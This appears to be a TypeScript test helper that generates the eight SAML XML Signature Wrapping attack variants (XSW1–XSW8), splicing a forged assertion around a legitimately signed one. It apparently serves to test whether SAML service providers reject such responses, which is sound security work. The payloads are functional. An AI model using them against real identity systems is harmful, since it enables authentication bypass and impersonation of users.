import { sign, type SamlProvider, type AssertionContent } from './saml-provider.ts'

type Shaped = AssertionContent & { recipient: string; destination: string; audience: string }

/**
 * Signature wrapping attacks: the eight ways in which a response can have a signed and a forged assertion, by their usual
 * numbers (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012).
 */
export function wrappings(provider: SamlProvider, good: Shaped, evil: Shaped): Record<string, string> {
  const { key } = provider
  const signed = sign(provider.assertionOf(good), 'Assertion', { key })
  const { signature, rest: stripped } = split(signed)
  const forged = provider.assertionOf(evil)
  const whole = split(sign(provider.around(signed, good), 'Response', { key }))
  const forgedResponse = provider.around(forged, evil)
  const around = (content: string) => provider.around(content, good)
  return {
    XSW1: afterIssuer(forgedResponse, within(whole.signature, object(whole.rest))),
    XSW2: afterIssuer(forgedResponse, whole.rest + whole.signature),
    XSW3: around(forged + signed),
    XSW4: around(forged.replace('</saml:Assertion>', `${signed}</saml:Assertion>`)),
    XSW5: around(afterIssuer(forged, signature) + stripped),
    XSW6: around(afterIssuer(forged, within(signature, stripped))),
    XSW7: around(`<samlp:Extensions>${forged}</samlp:Extensions>${signed}`),
    XSW8: around(afterIssuer(forged, within(signature, object(stripped)))),
  }
}

/** Splits off the first signature, which is the outer element's. */
function split(xml: string) {
  const [signature = ''] = /<ds:Signature[\s>].*?<\/ds:Signature>/s.exec(xml) ?? []
  if (signature === '') throw new Error('There is no signature.')
  return { signature, rest: xml.replace(signature, '') }
}

const afterIssuer = (xml: string, more: string) => xml.replace('</saml:Issuer>', `</saml:Issuer>${more}`)
const within = (signature: string, more: string) =>
  signature.replace('</ds:Signature>', `${more}</ds:Signature>`)
const object = (content: string) =>
  `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${content}</ds:Object>`
